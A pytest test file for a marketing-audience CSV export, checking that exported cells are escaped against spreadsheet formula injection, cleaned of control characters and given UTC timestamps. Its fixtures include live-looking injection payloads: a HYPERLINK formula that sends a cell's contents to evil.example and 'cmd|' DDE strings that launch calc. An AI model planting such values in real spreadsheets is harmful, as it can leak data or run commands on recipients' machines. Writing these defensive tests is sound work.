"""Audience CSVs are safe and plain for spreadsheets and messaging tools (issues #21.8 and #22.8)."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from cx_pipeline.privacy.csv_export import BOM, csv_cell, csv_text
from cx_pipeline.privacy.exports import export_audience, read_manifest


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+14155550134", "+14155550134"),  # an E.164 phone is data: destinations match on it
        ("-12.5", "-12.5"),
        ("Ann", "Ann"),
        ("a=b", "a=b"),
        ("nul\x00byte\x1b[31m", "nulbyte[31m"),
        ("=\x00SUM(A1)", "'=SUM(A1)"),
        ("two\nlines\tand tab", "two\nlines\tand tab"),
    ],
)
def test_text_cells_never_run_as_formulas_and_carry_no_control_characters(value: str, expected: str) -> None:
    assert csv_text(value) == expected


def test_timestamps_are_iso_8601_utc_whatever_their_zone() -> None:
    los_angeles = timezone(timedelta(hours=-7))
    assert csv_cell(datetime(2026, 10, 1, 2, 30, tzinfo=los_angeles)) == "2026-10-01T09:30:00Z"
    assert csv_cell(datetime(2026, 10, 1, 9, 30, 0, 120000, tzinfo=UTC)) == "2026-10-01T09:30:00.12Z"
    assert csv_cell(date(2026, 10, 1)) == "2026-10-01"
    assert csv_cell(None) == ""
    assert csv_cell(True) == "true"
    assert csv_cell(Decimal("10.50")) == "10.50"
    assert csv_cell(["u1", "u2"]) == "u1; u2"
    assert csv_cell(["=cmd"]) == "'=cmd"
    assert csv_cell([]) == ""


def _export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, bom: bool) -> Path:
    monkeypatch.setenv("CX360_EXPORTS_CSV_BOM", "true" if bom else "false")
    items = json.dumps([{"product_id": "P1", "quantity": 2, "unit_price": 9.5}, {"product_id": "=P2"}])
    with duckdb.connect() as connection:
        connection.execute("set TimeZone = 'America/Los_Angeles'")  # the CSV must not follow the session
        connection.execute("create schema marketing")
        connection.execute(
            """
            create table marketing.audience_test as
            select * from (values
                ('c1', 'Zoë', '=HYPERLINK("http://evil.example","x")', '+14155550134',
                 timestamptz '2026-10-01 09:30:00+00', ?::json),
                ('c2', 'Bob', 'nul' || chr(0), null, null, null)
            ) as t(customer_id, first_name, nps_comment, phone, last_active_at, cart_items)
            """,
            [items],
        )
        export_audience(
            connection, tmp_path, "audience_test", relation="marketing.audience_test", manifest={}
        )
    return tmp_path / "audience_test"


def test_an_export_writes_safe_text_iso_times_and_cart_items_as_rows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = _export(tmp_path, monkeypatch, bom=False)
    raw = (folder / "audience_test.csv").read_bytes()
    assert not raw.startswith(BOM.encode()) and b"\x00" not in raw
    with (folder / "audience_test.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["customer_id", "first_name", "nps_comment", "phone", "last_active_at"]
    assert rows[0] == {
        "customer_id": "c1",
        "first_name": "Zoë",
        "nps_comment": '\'=HYPERLINK("http://evil.example","x")',
        "phone": "+14155550134",
        "last_active_at": "2026-10-01T09:30:00Z",
    }
    assert rows[1]["nps_comment"] == "nul" and rows[1]["last_active_at"] == ""
    with (folder / "audience_test__cart_items.csv").open(encoding="utf-8", newline="") as handle:
        items = list(csv.DictReader(handle))
    assert items == [
        {"customer_id": "c1", "item_position": "1", "product_id": "P1", "quantity": "2", "unit_price": "9.5"},
        {"customer_id": "c1", "item_position": "2", "product_id": "'=P2", "quantity": "", "unit_price": ""},
    ]
    manifest = read_manifest(folder)
    assert set(manifest["files"]) == {
        "audience_test.csv",
        "audience_test__cart_items.csv",
        "audience_test.parquet",
    }
    with duckdb.connect() as connection:  # Parquet keeps the values and the JSON list as they are
        comment, cart = connection.execute(
            "select nps_comment, cart_items::varchar from read_parquet(?) where customer_id = 'c1'",
            [str(folder / "audience_test.parquet")],
        ).fetchone()
    assert comment.startswith("=HYPERLINK") and json.loads(cart)[1]["product_id"] == "=P2"


def test_a_bom_is_written_when_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = _export(tmp_path, monkeypatch, bom=True)
    assert (folder / "audience_test.csv").read_bytes().startswith(BOM.encode("utf-8"))
    assert (folder / "audience_test__cart_items.csv").read_bytes().startswith(BOM.encode("utf-8"))
    with (folder / "audience_test.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert next(csv.reader(handle))[0] == "customer_id"


def test_a_wrong_bom_setting_names_the_variable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CX360_EXPORTS_CSV_BOM", "maybe")
    from cx_pipeline.settings import SettingError, exports_csv_bom

    with pytest.raises(SettingError, match="CX360_EXPORTS_CSV_BOM='maybe' cannot be used: not true or false"):
        exports_csv_bom()
